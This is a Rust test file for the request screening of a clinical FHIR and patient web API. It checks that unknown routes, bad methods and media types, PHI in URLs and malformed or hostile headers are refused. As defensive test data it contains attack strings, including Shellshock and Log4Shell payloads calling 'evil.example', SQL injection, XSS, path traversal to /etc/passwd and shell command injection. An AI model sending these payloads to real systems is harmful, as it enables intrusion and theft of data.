//! Refused requests, by reason.

use proptest::prelude::*;

use super::*;

fn refused(line: &str, headers: &[(&str, &str)]) -> (u16, Reason) {
    let problem = screen(line, headers).expect_err(line);
    (problem.status.as_u16(), problem.reason)
}

/// Status, reason, method, target, and content type of a body.
const REFUSED: &str = "
404 unknown_route GET /admin
404 unknown_route GET /fhir/AuditEvent/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d
404 unknown_route GET /fhir/Patient/M-12345
404 unknown_route GET /fhir/Observation/
404 unknown_route GET /fhir/Observation/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d/_history/01
404 unknown_route POST /fhir/_search application/x-www-form-urlencoded
404 unknown_route GET /patients/Archer
400 phi_in_url GET /patients/123-45-6789
400 phi_in_url GET /fhir/Patient/999264821
405 method GET /fhir
405 method GET /fhir/
405 method PUT /fhir/Patient application/json
405 method DELETE /fhir/Patient
405 method GET /fhir/Patient/_search
405 method POST /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d application/json
405 method DELETE /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d/_history
405 method POST /patients application/x-www-form-urlencoded
405 method CONNECT /
405 method TRACE /
405 method OPTIONS /
405 method PROPFIND /
405 method get /
415 media_type POST /fhir application/fhir+xml
415 media_type POST /fhir/Patient/_search application/json
415 media_type POST /fhir/Patient application/fhir+xml
415 media_type PATCH /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d application/merge-patch+json
415 media_type POST /api/v1/tokens application/x-www-form-urlencoded
400 media_type GET /patients application/x-www-form-urlencoded
400 query GET /patients?page=0
400 query GET /patients?sort=ssn
400 query GET /patients?page=2&page=3
400 query GET /patients?page=2&page
400 query GET /patients?page=2&&sort=family
400 query GET /patients?%70age=2
400 phi_in_url GET /patients?after=1970-01-01
400 phi_in_url GET /patients?page=123-45-6789
400 phi_in_url GET /patients?x=ann%40example.org
400 phi_in_url GET /patients?q=Archer
400 phi_in_url GET /patients/search?q=Archer
400 phi_in_url GET /fhir/Patient?family=Archer
400 phi_in_url GET /fhir/Patient?FAMILY:exact=Archer
400 phi_in_url GET /fhir/Patient?_format=json&birthdate=1970-01-01
400 phi_in_url POST /fhir/Patient/_search?family=Archer application/x-www-form-urlencoded
400 phi_in_url GET /fhir?q=x
405 method GET /fhir/$validate
405 method GET /fhir/Observation/$validate
404 unknown_route GET /fhir/Patient/$everything
404 unknown_route GET /fhir/Observation/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d/$everything
404 unknown_route GET /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d/Practitioner
405 method POST /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d/$everything application/json
400 query GET /fhir/Patient/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d/$everything?start=x
400 query POST /fhir/$validate?profile=x application/fhir+json
400 phi_in_url GET /fhir/Observation?patient=8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d&code=55284-4
400 query GET /fhir/Observation?patient=8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d&patient=8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d
400 phi_in_url GET /fhir/Observation?patient=Organization/8c1b9d2e-4c8a-4b7e-9f0a-0d2f5a1b3c4d
400 query GET /fhir/Observation?category=vital-signs&category=hiv
400 query GET /fhir/Observation?status:not=final
400 query GET /fhir/Patient?_count=10;family=Archer
400 injection GET /?a=%3Cscript%3Ealert(1)%3C/script%3E
400 injection GET /?a=1%27%20OR%20%271%27=%271
400 injection GET /?x=$%7bjndi:ldap://a.b/c%7D
400 injection GET /?file=..%252f..%252fetc/passwd
";

#[test]
fn a_request_that_is_not_described_is_refused_with_its_reason() {
    for line in REFUSED.trim().lines() {
        let mut words = line.split(' ');
        let mut next = || words.next().unwrap();
        let (status, reason) = (next(), next());
        let request = format!("{} {}", next(), next());
        let body: Vec<_> = words.map(|kind| ("content-type", kind)).collect();
        let (actual, actual_reason) = refused(&request, &body);
        assert_eq!(
            (actual.to_string().as_str(), actual_reason.name()),
            (status, reason),
            "{line}"
        );
    }
}

#[test]
fn a_content_type_without_a_body_must_be_well_formed() {
    for (value, reason) in [
        ("a/b; x=\"../../etc/passwd\"", Reason::Injection),
        ("a/b, c/d", Reason::Malformed),
        ("a", Reason::Malformed),
        ("a/b; x", Reason::Malformed),
    ] {
        let head = head("GET /patients", &[("content-type", value)]);
        let problem = check(&head, false, &origin(), &api_schema()).expect_err(value);
        assert_eq!(problem.reason, reason, "{value}");
    }
}

#[test]
fn a_compressed_body_is_refused_with_the_supported_coding() {
    let kind = ("content-type", "application/fhir+json");
    for coding in ["gzip", "br", "identity, gzip", "x"] {
        let problem = screen("POST /fhir", &[kind, ("content-encoding", coding)]).unwrap_err();
        assert_eq!(problem.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
        assert_eq!(problem.accept_encoding, Some("identity"), "{coding}");
    }
    assert!(screen("POST /fhir", &[kind, ("content-encoding", "Identity")]).is_ok());
}

#[test]
fn a_refusal_has_the_supported_methods_or_the_way_to_search() {
    let problem = screen("POST /patients", &[]).unwrap_err();
    assert_eq!(problem.allow, Some("GET, HEAD"));
    let problem = screen("GET /fhir/Patient?family=Archer", &[]).unwrap_err();
    assert!(problem.detail.contains("POST /fhir/Patient/_search"));
    let target = format!("GET /fhir/Patient/{ID}/Observation?code=Archer");
    let problem = screen(&target, &[]).unwrap_err();
    assert!(problem.detail.contains("POST /fhir/Observation/_search"));
}

/// Reason, name and value of a header.
const HEADERS: &str = "
credentials authorization Basic YTpi
credentials authorization Bearer
credentials authorization Bearer\tabc
credentials authorization Bearer \tabc
credentials authorization Bearerabc
credentials authorization Bearer a b
credentials authorization Bearer a'--
malformed accept text/html'
injection accept <script>alert(1)</script>
malformed accept-language de (x)
injection accept-encoding ${jndi:ldap://x}
injection if-none-match \"a' or '1'='1\"
malformed if-none-match <1>
malformed if-none-match W/\"3\" \"4\"
malformed if-none-match 3 4
malformed if-none-match caf\u{e9}
injection if-none-match 3, ${jndi:ldap://x}
malformed if-match 3
malformed if-match W/\"3\" \"4\"
injection if-match \"a' or '1'='1\"
injection if-modified-since {{7*7}}
injection if-modified-since Sun, 06 Nov 1994 08:49:37 GMT<script>
injection if-unmodified-since ../../etc/passwd
malformed accept application/fhir+json; profile=\"x
malformed accept application/fhir+json; profile=\"x\"y
malformed accept application/fhir+json; =x
malformed accept application/fhir+json; profile
malformed accept ;q=1
injection accept a/b; profile=\"<script>alert(1)</script>\"
injection accept a/b; profile=\"<\\script>alert(1)</script>\"
injection accept a/b; profile=\"' or '1'='1\"
injection prefer foo=\"${jndi:ldap://x}\"
malformed prefer return=\"minimal
malformed origin https://clinic.example/?a=<b>
malformed origin https://clinic.example/
malformed origin https://a:1:2
malformed origin https://a://b
malformed origin a@b
malformed origin https://a#b
malformed origin https://a?b
malformed accept  text/html
malformed x-other a\t
malformed sec-fetch-mode CORS!
injection prefer return=`id`
malformed upgrade websocket
malformed expect 200-ok
malformed x_forwarded_for 6.6.6.6
media_type content-encoding gzip
malformed user-agent caf\u{e9}
injection user-agent () { :; }; /bin/bash -c id
injection user-agent ${jndi:ldap://evil.example/a}
injection user-agent %24%7Bjndi:dns://evil.example%7D
injection user-agent 1' UNION SELECT password FROM people --
injection user-agent <img src=x onerror=alert(1)>
injection user-agent ../../../../etc/passwd
injection user-agent a%0d%0aset-cookie: b
injection user-agent <?php system('id'); ?>
injection user-agent {{constructor.constructor('return 1')()}}
injection user-agent *)(uid=*))(|(uid=*
injection user-agent ; cat /etc/hosts
";

#[test]
fn a_malformed_header_is_refused_with_its_reason() {
    for line in HEADERS.trim().lines() {
        let (reason, header) = line.split_once(' ').unwrap();
        let header = header.split_once(' ').unwrap_or((header, ""));
        // Twice, because a refused value must not enter the cache of harmless ones.
        for _ in 0..2 {
            assert_eq!(
                refused("GET /patients", &[header]).1.name(),
                reason,
                "{line}"
            );
        }
    }
    let long = "x".repeat(1025);
    assert_eq!(refused("GET /patients", &[("user-agent", &long)]).0, 400);
}

/// Screens `GET /` after a change of its head. Returns the kind of its route.
fn screen_changed(change: fn(&mut Parts)) -> Result<RouteKind, Problem> {
    let mut head = head("GET /", &[]);
    change(&mut head);
    check(&head, false, &origin(), &api_schema()).map(|(route, _)| route.kind)
}

#[test]
fn a_request_must_have_exactly_one_host() {
    let two = |head: &mut Parts| {
        head.headers
            .append(HOST, HeaderValue::from_static("clinic.example"));
    };
    let none = |head: &mut Parts| {
        head.headers.remove(HOST);
    };
    let differing = |head: &mut Parts| head.uri = "https://other.example/".parse().unwrap();
    let no_tls = |head: &mut Parts| head.uri = "http://clinic.example/".parse().unwrap();
    let none_of_http_2 = |head: &mut Parts| {
        head.version = Version::HTTP_2;
        head.headers.remove(HOST);
    };
    let differing_of_http_2 = |head: &mut Parts| {
        head.version = Version::HTTP_2;
        head.uri = "https://other.example/".parse().unwrap();
    };
    for change in [
        two,
        none,
        differing,
        no_tls,
        none_of_http_2,
        differing_of_http_2,
    ] {
        assert_eq!(
            screen_changed(change).unwrap_err().status,
            StatusCode::BAD_REQUEST
        );
    }
}

#[test]
fn the_host_must_be_the_origin() {
    let default_port = |head: &mut Parts| {
        head.headers
            .insert(HOST, HeaderValue::from_static("Clinic.Example:443"));
    };
    assert!(screen_changed(default_port).is_ok());
    for host in [
        "other.example",
        "localhost:8443",
        "clinic.example:8443",
        "clinic.example:4443",
    ] {
        let mut head = head("GET /", &[]);
        head.headers.insert(HOST, HeaderValue::from_static(host));
        let refused = check(&head, false, &origin(), &api_schema()).unwrap_err();
        assert_eq!(
            (refused.status.as_u16(), refused.reason),
            (421, Reason::Host)
        );
    }
    // HAProxy forwards a request in origin form like this.
    let host_of_http_2 = |head: &mut Parts| head.version = Version::HTTP_2;
    assert!(screen_changed(host_of_http_2).is_ok());
    let other_host_of_http_2 = |head: &mut Parts| {
        head.version = Version::HTTP_2;
        head.headers
            .insert(HOST, HeaderValue::from_static("other.example"));
    };
    assert_eq!(
        screen_changed(other_host_of_http_2).unwrap_err().status,
        421
    );
    let health = |head: &mut Parts| {
        head.uri = "/healthz".parse().unwrap();
        head.headers
            .insert(HOST, HeaderValue::from_static("10.0.0.7"));
    };
    assert_eq!(screen_changed(health).unwrap(), RouteKind::Health);
}

#[test]
fn http_1_0_is_refused() {
    let mut old = head("GET /", &[]);
    old.version = Version::HTTP_10;
    assert_eq!(
        check(&old, false, &origin(), &api_schema())
            .unwrap_err()
            .status
            .as_u16(),
        505
    );
}

/// Search terms, and code for databases and browsers, in any combination.
fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("' OR 1=1 --".to_owned()),
        Just("<script>".to_owned()),
        Just("../".to_owned()),
        Just("%00".to_owned()),
        Just("${jndi:ldap://x}".to_owned()),
        Just("123-45-6789".to_owned()),
        Just("1970-01-31".to_owned()),
        "[ -~]{1,8}",
    ];
    prop::collection::vec(piece, 1..4).prop_map(|pieces| pieces.concat())
}

proptest! {
    /// An admitted query has only described parameters, each once, with a value of a closed set.
    #[test]
    fn only_a_described_query_is_admitted(value in hostile(), name in "[a-z_]{1,8}") {
        let encoded = value.bytes().fold(String::new(), |all, byte| format!("{all}%{byte:02x}"));
        for query in [format!("{name}={encoded}"), format!("page={encoded}"), encoded.clone()] {
            let admitted = screen(&format!("GET /patients?{query}"), &[]).is_ok();
            let page = value.parse::<u32>().is_ok_and(|page| (1..=100_000).contains(&page));
            let plain = !value.starts_with(['0', '+']);
            prop_assert!(!admitted || (page && plain && query.contains("page=")), "{query}");
        }
    }

    /// A path with a route has no segment of arbitrary text.
    #[test]
    fn an_arbitrary_segment_has_no_route(segment in "[A-Za-z0-9._~$-]{1,40}") {
        for path in ["", "patients/", "fhir/", "fhir/Patient/", "assets/", "api/v1/"] {
            if let Ok(template) = screen(&format!("GET /{path}{segment}"), &[]) {
                let known = ["/people", "/audit", "/patients", "/sign-in", "/fhir/metadata",
                    "/fhir/{type}", "/api/v1/people", "/api/v1/session"];
                prop_assert!(known.contains(&template), "{segment}");
            }
        }
    }
}
